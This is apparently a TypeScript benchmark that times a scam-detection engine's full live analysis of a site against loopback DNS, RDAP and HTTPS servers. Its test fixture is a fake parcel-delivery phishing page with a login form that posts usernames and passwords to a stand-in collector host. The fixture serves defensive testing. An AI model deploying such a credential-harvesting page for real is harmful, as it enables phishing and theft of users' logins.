// p50/p95 of a full live analysis (DNS, TLS, RDAP, page fetch, feeds, popularity) against loopback
// servers: an HTTPS site with a self-signed certificate, a DNS server and an RDAP registry. Every run
// is a new analysis (the engine itself, no report cache). Budget: p95 < 1.5 s.
import { normalizeTarget } from '@scamcheck/shared';
import { loadConfig } from '../../src/config';
import { createEngineServices } from '../../src/engine/engine-services';
import {
  LOOPBACK_SITE_IP,
  registeredDaysAgo,
  startLoopbackInternet,
} from '../../src/engine/testing/loopback-internet';
import { createLogger } from '../../src/lib/logger';
import { openStorage } from '../../src/storage/open-storage';
import { startTestSite } from '../../src/test-support';
import { ms, percentile } from './percentiles';

const HOST = 'bench-parcel-login.com';
const PAGE = `<!doctype html><title>Parcel delivery - sign in</title><h1>Your parcel is on hold</h1>
  <p>${'Track your delivery and pay the customs fee. '.repeat(200)}</p>
  <form method="post" action="https://collector.example.net/p"><input name="u"><input type="password" name="p"></form>`;

export async function benchLiveAnalysis(runs: number): Promise<void> {
  const site = await startTestSite({
    host: LOOPBACK_SITE_IP,
    https: { hostname: HOST },
    routes: { '/': { status: 302, headers: { location: '/login' } }, '/login': { body: PAGE } },
  });
  const internet = await startLoopbackInternet({
    domains: { [HOST]: { registered: registeredDaysAgo(4), registrar: 'Bench Registrar' } },
    sites: [site],
  });
  const config = loadConfig({ NODE_ENV: 'test', DATABASE_URL: 'memory://', ...internet.env });
  const storage = await openStorage(config.storage);
  try {
    await storage.feeds.replaceSource(
      'openphish',
      [{ indicator: 'unrelated.example', kind: 'host' }],
      new Date(),
    );
    await storage.popularity.replaceAll([{ domain: 'example.org', rank: 1 }], new Date());
    const { engine } = createEngineServices({
      config: config.engine,
      storage,
      clock: { now: () => new Date() },
      logger: createLogger('silent'),
      fetcher: internet.fetcher(),
    });
    const target = normalizeTarget(`https://${HOST}:${site.port}/`);
    const first = await engine.analyze(target);
    const failed = first.checks.filter((check) => check.status === 'unavailable').map((check) => check.id);
    for (let i = 0; i < 5; i++) await engine.analyze(target); // warm-up
    const durations: number[] = [];
    for (let i = 0; i < runs; i++) {
      const started = performance.now();
      await engine.analyze(target);
      durations.push(performance.now() - started);
    }
    console.log(
      `live analysis against loopback (HTTPS site, DNS, RDAP): ${runs} runs, p50 ${ms(percentile(durations, 0.5))}, ` +
        `p95 ${ms(percentile(durations, 0.95))}, max ${ms(Math.max(...durations))} — budget p95 < 1500 ms` +
        (failed.length > 0 ? ` (unavailable checks: ${failed.join(', ')})` : ''),
    );
  } finally {
    await storage.close();
    await Promise.all([internet.close(), site.close()]);
  }
}
